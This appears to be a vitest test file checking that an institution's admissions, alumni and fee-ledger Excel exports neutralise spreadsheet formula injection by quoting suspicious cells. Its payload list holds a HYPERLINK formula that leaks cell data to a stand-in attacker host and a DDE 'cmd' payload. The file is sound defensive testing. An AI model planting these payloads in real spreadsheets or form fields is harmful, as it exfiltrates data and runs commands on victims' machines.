import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { AdmissionEntry } from '../../src/domain/admissions/admission-record';
import { BULK_COLUMNS } from '../../src/domain/admissions/bulk-columns';
import type { DirectoryRow } from '../../src/domain/alumni/directory';
import { dailyCollection, ledgerTotals, type LedgerEntry } from '../../src/domain/payments/ledger';
import { admissionsWorkbook } from '../../src/server/modules/admissions/register-export';
import { directoryWorkbook } from '../../src/server/modules/alumni/export-sheet';
import { ledgerWorkbook } from '../../src/server/modules/payments/ledger-excel';
import { errorSheet } from '../../src/server/sheets/error-sheet';
import { sheetRows } from '../../src/server/sheets/sheet-rows';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
/** What an attacker types into a name, an agent or a fee type so that the exported sheet runs it. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.test/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];

async function cellsOf(bytes: Uint8Array | Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  const cells: unknown[] = [];
  // exceljs leaves OOXML's escapes of control characters (_x000D_ for a CR) as they are; Excel reads them as the character.
  const unescaped = (value: unknown) =>
    typeof value === 'string'
      ? value.replace(/_x([0-9a-f]{4})_/gi, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
      : value;
  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(unescaped(cell.value)))));
  return cells;
}

/** Every payload comes back as text behind a single quote; no cell is a formula. */
function expectNeutralised(cells: unknown[]) {
  for (const payload of PAYLOADS) expect(cells).toContain(`'${payload}`);
  for (const cell of cells) {
    expect(typeof cell === 'object' && cell !== null && !(cell instanceof Date) ? cell : null).toBeNull();
    if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
}

describe('exported workbooks neutralise text that starts like a formula (OWASP)', () => {
  it('the admissions register export', async () => {
    const entries = PAYLOADS.map(
      (payload, i) =>
        ({
          adminNo: `A${i}`,
          rollNumber: `R${i}`,
          name: payload,
          gender: 'MALE',
          courseAppliedFor: 'B.Tech',
          batch: '2026-30',
          branch: 'CSE',
          admissionType: 'Convener',
          seatType: 'A',
          category: 'OC',
          agent: payload,
          academicYear: '2026-27',
          dateOfAdmission: '2026-07-15',
          certificateSubmission: 'No',
          applicationFormExcelM: {
            aadharNo: 'XXXX XXXX 1234',
            fathersName: 'Father',
            feeCommitment: '',
            studentPaidamount: '',
            permanentAddress: {},
          },
        }) as unknown as AdmissionEntry,
    );
    expectNeutralised(await cellsOf(await admissionsWorkbook(entries, 'Admissions')));
  });

  it('the alumni directory export', async () => {
    const rows: DirectoryRow[] = PAYLOADS.map((payload, i) => ({
      rollNumber: `R${i}`,
      name: payload,
      degree: 'B.Tech',
      batch: '2020-24',
      branch: 'CSE',
      status: 'working',
      organisation: payload,
      role: 'Engineer',
      location: 'Hyderabad',
      email: null,
      mobile: null,
      source: 'registration',
    }));
    expectNeutralised(
      await cellsOf(await directoryWorkbook(rows, [{ batch: '2020-24', working: 6, studying: 0, other: 0 }])),
    );
  });

  it('the fee ledger export, where numbers (a negative one too) stay numbers', async () => {
    const entries: LedgerEntry[] = PAYLOADS.map((payload, i) => ({
      paymentId: i,
      orderId: `O${i}`,
      receiptNo: null,
      rollNo: `R${i}`,
      studentName: payload,
      course: 'B.Tech',
      batch: '2026-30',
      feeType: payload,
      semester: 'I Year I Semester',
      paymentMode: 'UPI',
      amount: -12_500,
      overpaid: 0,
      refunded: 0,
      status: 'PAID',
      statusLabel: 'Paid',
      createdAt: '2026-07-15T05:00:00.000Z',
      paidAt: '2026-07-15T05:00:00.000Z',
      transactionId: null,
    }));
    const cells = await cellsOf(
      await ledgerWorkbook(
        entries,
        ledgerTotals(entries),
        dailyCollection(entries),
        {} as never,
        new Date('2026-07-16T00:00:00Z'),
      ),
    );
    expectNeutralised(cells);
    expect(cells).toContain(-125);
    expect(cells).not.toContain("'-125");
  });

  it('the upload error report, which reads back as the clerk typed it', async () => {
    const rejected = PAYLOADS.map((payload, i) => ({
      rowNumber: i + 2,
      cells: [payload, ...BULK_COLUMNS.slice(1).map(() => '')],
      issues: [{ column: 'Aadhaar Number', reason: 'Invalid' }],
    }));
    const bytes = await errorSheet(
      (async function* () {
        yield* rejected;
      })(),
    );
    expectNeutralised(await cellsOf(bytes));
    const firstCells: unknown[] = [];
    for await (const row of sheetRows(new Uint8Array(bytes), XLSX_TYPE))
      if (row.number > 1) firstCells.push(row.cells[0]);
    expect(firstCells).toEqual(PAYLOADS);
  });
});
